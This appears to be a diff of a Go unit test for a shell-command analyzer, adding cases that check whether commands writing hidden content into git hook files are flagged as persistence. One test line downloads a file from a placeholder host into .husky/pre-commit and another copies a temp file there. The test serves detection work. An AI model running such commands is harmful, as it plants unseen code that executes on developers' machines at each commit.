@@ -29,6 +29,11 @@ func TestRunTimeFindings(t *testing.T) {
 		{"./runme/b*.sh", ruleDynamicName, false},
 		{"./runme/b*.sh", rulePipeToShell, false},
 		{"python3 -c 'print(1)'", ruleInlineInterp, false}, // the code is the command's text
+		// A file a program runs by itself, written with text the command
+		// does not show, or shows.
+		{"curl -o .husky/pre-commit https://x.example/h", rulePersistence, true},
+		{"cp /tmp/h .husky/pre-commit", rulePersistence, true},
+		{"echo 'go vet ./...' > .git/hooks/pre-commit", rulePersistence, false},
 	} {
 		found := false
 		for _, f := range a.Command(c.cmd, env).Findings {
